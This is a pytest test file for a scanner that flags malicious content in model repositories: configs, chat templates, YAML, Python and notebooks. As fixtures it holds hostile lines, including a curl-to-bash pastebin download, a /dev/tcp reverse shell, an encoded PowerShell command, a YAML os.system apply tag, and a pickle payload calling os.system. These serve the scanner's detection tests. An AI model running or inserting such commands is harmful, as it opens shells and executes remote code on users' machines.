"""Text files in a model repo (configs, tokenizer configs, YAML, Python) and the shared indicator finders."""

from __future__ import annotations

import base64
import json
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import chat_templates as ct
import numpy as np
import pytest
from scanhelp import of_rule, rule_ids, scan_one

from modelsieve.indicators import (
    classify_bytes,
    executable_findings,
    find_encoded_payloads,
    find_executables,
    find_indicators,
    indicator_findings,
    risk_note,
)
from modelsieve.model import BehaviourKind, IndicatorKind, Location, Verdict

# ---------------------------------------------------------------- configs


def _write_json(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data, indent=2))
    return path


def test_auto_map_local_code_is_txt001_not_a_verdict(tmp_path: Path) -> None:
    config = {
        "architectures": ["PhiForCausalLM"],
        "auto_map": {
            "AutoConfig": "configuration_phi.PhiConfig",
            "AutoModelForCausalLM": "modeling_phi.PhiForCausalLM",
        },
        "model_type": "phi",
    }
    result = scan_one(_write_json(tmp_path / "config.json", config))
    findings = of_rule(result, "TXT001")
    assert {f.location.detail for f in findings} == {"auto_map.AutoConfig", "auto_map.AutoModelForCausalLM"}
    assert "imports code from modeling_phi.py" in next(
        f.message for f in findings if f.location.detail == "auto_map.AutoModelForCausalLM"
    )
    assert result.verdict is Verdict.CLEAN


def test_auto_map_to_other_repo_is_txt002(tmp_path: Path) -> None:
    config = {"auto_map": {"AutoModel": "attacker/other-repo--modeling_evil.EvilModel"}}
    result = scan_one(_write_json(tmp_path / "config.json", config))
    (finding,) = of_rule(result, "TXT002")
    assert finding.location.detail == "auto_map.AutoModel"
    assert "attacker/other-repo" in finding.message
    assert finding.behaviour is not None and finding.behaviour.kind is BehaviourKind.NEEDS_CODE
    assert result.verdict is Verdict.SUSPICIOUS


def test_tokenizer_auto_map_list_form(tmp_path: Path) -> None:
    config = {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}, "model_max_length": 2048}
    (finding,) = of_rule(scan_one(_write_json(tmp_path / "tokenizer_config.json", config)), "TXT001")
    assert finding.subject == "tokenization_x.XTokenizer"


def test_adapter_base_model_is_txt007(tmp_path: Path) -> None:
    config = {"base_model_name_or_path": "meta-llama/Llama-3.1-8B", "peft_type": "LORA", "r": 8}
    result = scan_one(_write_json(tmp_path / "adapter_config.json", config))
    (finding,) = of_rule(result, "TXT007")
    assert finding.subject == "meta-llama/Llama-3.1-8B"
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize("name", sorted(ct.BENIGN))
def test_tokenizer_config_real_templates_are_clean(tmp_path: Path, name: str) -> None:
    config = {"bos_token": "<s>", "eos_token": "</s>", "chat_template": ct.BENIGN[name]}
    result = scan_one(_write_json(tmp_path / "tokenizer_config.json", config))
    assert result.verdict is Verdict.CLEAN, result.findings


def test_tokenizer_config_template_injection_is_ggf001(tmp_path: Path) -> None:
    config = {"chat_template": [{"name": "default", "template": ct.cve_2024_34359(str(tmp_path / "m"))}]}
    result = scan_one(_write_json(tmp_path / "tokenizer_config.json", config))
    (finding,) = of_rule(result, "GGF001")
    assert finding.location.detail == "chat_template.default"
    assert result.verdict is Verdict.MALICIOUS
    assert not (tmp_path / "m").exists()


def test_chat_template_jinja_file(tmp_path: Path) -> None:
    benign = tmp_path / "chat_template.jinja"
    benign.write_text(ct.LLAMA3)
    result = scan_one(benign)
    assert result.formats == ("text/jinja",)
    assert result.verdict is Verdict.CLEAN, result.findings
    evil = tmp_path / "evil" / "chat_template.jinja"
    evil.parent.mkdir()
    evil.write_text(ct.via_set_alias(str(tmp_path / "m")))
    (finding,) = of_rule(scan_one(evil), "GGF001")
    assert finding.location.detail == "chat template"
    readme = tmp_path / "README.md"
    readme.write_text("# Usage\n\nThe template loops `{% for m in messages %}` over messages {{ like this.\n")
    assert scan_one(readme).verdict is Verdict.CLEAN


# ---------------------------------------------------------------- YAML


def test_yaml_python_apply_is_txt006(tmp_path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    marker = tmp_path / "yaml-marker"
    text = f'model: tiny\nhook: !!python/object/apply:os.system ["touch {marker}"]\n'
    path = tmp_path / "params.yaml"
    path.write_text(text)
    result = scan_one(path)
    (finding,) = of_rule(result, "TXT006")
    assert finding.subject == "os.system"
    assert finding.location.detail == "line 2"
    assert result.verdict is Verdict.MALICIOUS
    assert not marker.exists()
    # Proof: yaml.unsafe_load (in a child process) runs the command.
    code = "import sys, yaml; yaml.unsafe_load(open(sys.argv[1]).read())"
    subprocess.run([sys.executable, "-c", code, str(path)], check=True, timeout=60)
    assert marker.exists()
    assert yaml.safe_load("a: 1") == {"a": 1}


def test_yaml_python_name_is_txt005_and_plain_yaml_clean(tmp_path: Path) -> None:
    path = tmp_path / "cfg.yaml"
    path.write_text("cls: !!python/name:collections.OrderedDict\n")
    (finding,) = of_rule(scan_one(path), "TXT005")
    assert finding.subject == "collections.OrderedDict"
    plain = tmp_path / "plain.yaml"
    plain.write_text("model_type: llama\nhidden_size: 4096\nlayers:\n  - 1\n  - 2\n")
    assert scan_one(plain).verdict is Verdict.CLEAN


# ---------------------------------------------------------------- Python


def test_benign_modeling_code_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "modeling_tiny.py"
    path.write_text(
        "import math\nimport os\n\nimport torch\nfrom torch import nn\n\n\n"
        "class Tiny(nn.Module):\n    def __init__(self, n: int) -> None:\n        super().__init__()\n"
        "        self.lin = nn.Linear(n, n)\n        self.cache = os.path.join('a', 'b')\n\n"
        "    def forward(self, x):\n        return torch.relu(self.lin(x)) * math.sqrt(2)\n"
    )
    result = scan_one(path)
    assert result.formats == ("text/python",)
    assert result.verdict is Verdict.CLEAN, result.findings


def test_python_dangerous_calls_resolve_aliases(tmp_path: Path) -> None:
    path = tmp_path / "modeling_evil.py"
    path.write_text(
        "import subprocess as sp\nfrom os import system as run_it\nimport os\n\n"
        "def setup():\n"
        "    run_it('curl -s https://pastebin.com/raw/abcd | bash')\n"
        "    __import__('os').popen('id')\n"
        "    getattr(os, 'system')('true')\n"
        "    sp.check_output(['uname'])\n"
        "    exec(compile('x = 1', 'f', 'exec'))\n"
    )
    result = scan_one(path)
    calls = {(f.subject, f.location.detail) for f in of_rule(result, "TXT003")}
    assert {
        ("os.system", "line 6"),
        ("os.popen", "line 7"),
        ("os.system", "line 8"),
        ("subprocess.check_output", "line 9"),
        ("exec", "line 10"),
        ("compile", "line 10"),
    } <= calls
    assert {f.subject for f in of_rule(result, "TXT004")} == {"subprocess"}
    assert "IND002" in rule_ids(result)
    # A command-running call plus a paste-site URL is proof.
    assert result.verdict is Verdict.MALICIOUS


def test_notebook_code_cells_are_python(tmp_path: Path) -> None:
    notebook = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {"cell_type": "markdown", "source": ["# Demo: os.system('not code')"]},
            {"cell_type": "code", "source": ["!pip install torch\n", "import os\n", "x = os.system('id')\n"]},
        ],
    }
    result = scan_one(_write_json(tmp_path / "demo.ipynb", notebook))
    assert result.formats == ("text/notebook",)
    (finding,) = of_rule(result, "TXT003")
    assert finding.location.detail == "cell 1, line 3"
    assert finding.subject == "os.system"


def test_text_scanner_never_claims_binary() -> None:
    from modelsieve.formats.text import is_text

    assert is_text("héllo wörld\n".encode())
    assert is_text("日本語".encode()[:-1])  # cut multi-byte character at the end of the head
    assert not is_text(b"\x80\x04\x95")
    assert not is_text(b"abc\x00def")
    assert not is_text(b"abc\x01\x02def")


def test_large_text_is_streamed_for_indicators(tmp_path: Path) -> None:
    path = tmp_path / "vocab.txt"
    with open(path, "w") as f:
        for i in range(600_000):
            f.write(f"token{i}\n")
        f.write("see https://bit.ly/3abcd\n")
    result = scan_one(path)
    assert result.formats == ("text/large",)
    (finding,) = of_rule(result, "IND002")
    assert finding.subject == "https://bit.ly/3abcd"
    assert result.verdict is Verdict.CLEAN


# ---------------------------------------------------------------- indicators


@pytest.mark.parametrize(
    ("url", "note"),
    [
        ("https://pastebin.com/raw/x1", "paste site"),
        ("https://bit.ly/abc", "URL shortener"),
        ("https://abc.ngrok-free.app/p", "tunnel or request catcher"),
        ("https://x.trycloudflare.com/", "tunnel or request catcher"),
        ("https://discord.com/api/webhooks/1/abc", "chat webhook"),
        ("https://api.telegram.org/bot1:x/sendMessage", "chat webhook"),
        ("http://45.77.1.2:8080/x", "raw IP address"),
        ("https://huggingface.co/org/model", None),
        ("http://127.0.0.1:8000/", None),
    ],
)
def test_risk_notes(url: str, note: str | None) -> None:
    assert risk_note(url) == note


def test_ip_port_domain_and_commands() -> None:
    text = (
        "connect to 45.33.12.9:4444; version 1.2.3.4; local 10.0.0.1; logger.info(x); model.to(device); "
        "mirror files.evil-cdn.xyz; bash -i >& /dev/tcp/45.33.12.9/4444 0>&1\n"
        "powershell -nop -w hidden -enc SQBFAFgA\n"
    )
    found = find_indicators(text)
    values = {(i.kind, i.value) for i in found}
    assert (IndicatorKind.IP, "45.33.12.9:4444") in values
    assert (IndicatorKind.DOMAIN, "files.evil-cdn.xyz") in values
    assert not any(i.value.startswith(("1.2.3.4", "10.0.0.1")) for i in found)
    assert not any(i.kind is IndicatorKind.DOMAIN and "logger" in i.value for i in found)
    commands = [i.value for i in found if i.kind is IndicatorKind.COMMAND]
    assert any("/dev/tcp/" in c for c in commands)
    assert any("powershell" in c for c in commands)


class _Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("echo harmless",))


def test_base64_pickle_is_ind004() -> None:
    blob = base64.b64encode(pickle.dumps(_Payload(), protocol=4)).decode()
    (finding,) = [f for f in indicator_findings(f"data = '{blob}'", Location("x")) if f.rule_id == "IND004"]
    assert "base64 of a pickle" in finding.message


def test_encoded_code_kinds() -> None:
    code = marshal.dumps(compile("import os\nos.system('true')", "<x>", "exec"))
    source = b"import socket,subprocess;s=socket.socket();s.connect(('10.1.1.1',9))"
    zipped = base64.b64encode(zlib.compress(pickle.dumps(_Payload(), protocol=2))).decode()
    found = {p.decoded for p in find_encoded_payloads(f"{code.hex()} {base64.b64encode(source).decode()} {zipped}")}
    assert found == {"a marshal'd Python code object", "Python source", "zlib-compressed a pickle"}


def test_harmless_encodings_are_not_ind004() -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(64)).decode()
    sha = "a" * 64
    words = base64.b64encode(b"just an ordinary sentence about tokenizers and weights").decode()
    assert find_encoded_payloads(f"{png} {sha} {words} model_layers_0_self_attn_q_proj_weight_scale") == ()


def test_random_float32_tensors_give_no_ind005() -> None:
    """Chance `MZ`, `\\x7fELF`, Mach-O magic and `http` bytes inside float data are not executables."""
    rng = np.random.default_rng(1234)
    for _ in range(20):
        data = bytearray(rng.standard_normal(1 << 16).astype(np.float32).tobytes())
        for magic in (b"MZ", b"\x7fELF\x02\x01\x01\x00", b"\xcf\xfa\xed\xfe", b"\x7fELF", b"http://a.b/"):
            at = int(rng.integers(0, len(data) - 64))
            data[at : at + len(magic)] = magic
        assert find_executables(bytes(data)) == ()
        assert executable_findings(bytes(data), Location("t")) == ()
    # Also when every position is tried: the float data of a real-looking tensor never validates.
    dense = rng.standard_normal(1 << 18).astype(np.float32).tobytes().replace(b"\x00\x00", b"MZ")
    assert find_executables(dense) == ()


def test_real_elf_embedded_in_data_is_ind005() -> None:
    true = shutil.which("true")
    if true is None:
        pytest.skip("no /bin/true")
    exe = Path(true).read_bytes()
    rng = np.random.default_rng(5)
    noise = rng.standard_normal(4096).astype(np.float32).tobytes()
    (finding,) = executable_findings(noise + exe + noise, Location("blob"), base_offset=100)
    assert finding.rule_id == "IND005"
    assert finding.location.offset == 100 + len(noise)
    assert finding.subject.startswith("ELF")


def _pe() -> bytes:
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80)) + bytes(0x80 - 0x40)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return bytes(dos) + coff + struct.pack("<H", 0x20B) + bytes(300)


def _macho() -> bytes:
    header = b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIIII", 0x01000007, 3, 2, 1, 72, 0, 0)
    return header + struct.pack("<II", 0x19, 72) + bytes(64)


def test_pe_and_macho_headers_validate() -> None:
    assert [e.kind for e in find_executables(b"junk" + _pe())] == ["PE32+ (Windows) executable"]
    assert [e.kind for e in find_executables(b"junk" + _macho())] == ["Mach-O executable"]
    broken = bytearray(_pe())
    broken[0x80:0x84] = b"PX\x00\x00"
    assert find_executables(bytes(broken)) == ()


def test_shebang_only_at_start_and_only_when_asked() -> None:
    script = b"#!/bin/sh\ncurl https://x.example/p | sh\n"
    assert find_executables(script) == ()
    assert [e.kind for e in find_executables(script, include_scripts=True)] == ["shebang script"]
    assert classify_bytes(script) == "shebang script"
